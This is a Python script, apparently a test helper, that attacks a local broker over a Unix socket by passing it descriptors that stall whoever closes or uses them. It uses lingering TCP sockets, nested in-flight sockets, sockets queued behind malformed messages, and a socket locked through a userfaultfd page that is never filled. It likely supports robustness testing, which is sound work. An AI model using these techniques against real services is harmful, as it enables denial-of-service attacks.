# SPDX-License-Identifier: MIT
"""Passes the broker at SOCKET descriptors that hold up whoever uses or closes them, in the way that
HOW names. Prints "sent" for each, and holds everything else that it takes until its input ends.

  plain    a TCP socket whose close waits for its peer to read (SO_LINGER), the last one of it
  nested   such a socket, in flight in a socket that is passed
  queued   such a socket, with a message that is never read: the one before it is malformed
  locked   a socket whose mark is to be taken away while another thread sends from a page that nobody fills in,
           and so has the socket locked
"""

import ctypes
import fcntl
import mmap
import os
import socket
import struct
import sys
import threading

from support import wire

SECONDS = 3600
EVERY_BIT = -1
USERFAULTFD = 323  # the system call of x86-64
USERFAULTFD_ELSEWHERE = 282  # asm-generic/unistd.h
UFFDIO_API, UFFDIO_REGISTER = 0xC018AA3F, 0xC020AA00
UFFD_API, MODE_MISSING = 0xAA, 1


def connected():
    """Both ends of a TCP connection over the loopback interface, with small buffers."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        end = socket.create_connection(listener.getsockname())
        return end, listener.accept()[0]


def lingering(kept):
    end, peer = connected()
    kept.append(peer)
    end.setblocking(False)
    try:
        while True:
            end.send(bytes(65536))
    except BlockingIOError:
        pass
    end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, SECONDS))
    return end


def nested(end):
    """A socket that `end` is in flight in."""
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    wire.send_with_descriptors(here, b"!", [end.fileno()])
    here.close()
    return there


def unfilled_page(kept):
    """The address of a page that whoever reads it waits for."""
    number = USERFAULTFD if os.uname().machine == "x86_64" else USERFAULTFD_ELSEWHERE
    handler = ctypes.CDLL(None, use_errno=True).syscall(number, os.O_CLOEXEC)
    if handler < 0:
        error = ctypes.get_errno()
        raise SystemExit(f"userfaultfd: {os.strerror(error)}")
    fcntl.ioctl(handler, UFFDIO_API, bytearray(struct.pack("=QQQ", UFFD_API, 0, 0)))
    page = mmap.mmap(-1, mmap.PAGESIZE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    region = struct.pack("=QQQQ", address, mmap.PAGESIZE, MODE_MISSING, 0)
    fcntl.ioctl(handler, UFFDIO_REGISTER, bytearray(region))
    kept += [page, handler]
    return address


def locked(kept):
    """A socket that a thread sends from."""
    end, peer = connected()
    end.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, EVERY_BIT)
    address = unfilled_page(kept)
    kept += [end, peer]
    arguments = (end.fileno(), ctypes.c_void_p(address), ctypes.c_size_t(mmap.PAGESIZE), 0)
    thread = threading.Thread(target=ctypes.CDLL(None).send, args=arguments, daemon=True)
    thread.start()
    status = f"/proc/self/task/{thread.native_id}/wchan"
    while "userfault" not in open(status, encoding="utf-8").read():
        pass
    return end


def greeted(path):
    broker = wire.connect(path)
    broker.send(wire.hello())
    for descriptor in socket.recv_fds(broker, wire.LARGEST, 8)[1]:
        os.close(descriptor)
    return broker


def closed(end):
    """Closes it; false where the broker was faster, so that it is this process that waits."""
    closing = threading.Thread(target=end.close, daemon=True)
    closing.start()
    closing.join(1)
    return not closing.is_alive()


def attack(path, how, kept):
    if how == "locked":
        broker = greeted(path)
        wire.send_with_descriptors(broker, wire.mark(0), [locked(kept).fileno()])
    else:
        broker = wire.connect(path)
        end = lingering(kept)
        if how == "nested":
            end = nested(end)
        if how == "queued":
            broker.send(b"bad")
        message = wire.request() if how == "nested" else wire.hello()
        try:
            wire.send_with_descriptors(broker, message, [end.fileno()])
        except BrokenPipeError:
            # The broker has read the malformed one already. This process would be the last to close.
            end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
            return attack(path, how, kept)
        if not closed(end):
            return attack(path, how, kept)
    kept.append(broker)


def main():
    path, how, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    kept = []
    for _ in range(count):
        attack(path, how, kept)
        print("sent", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
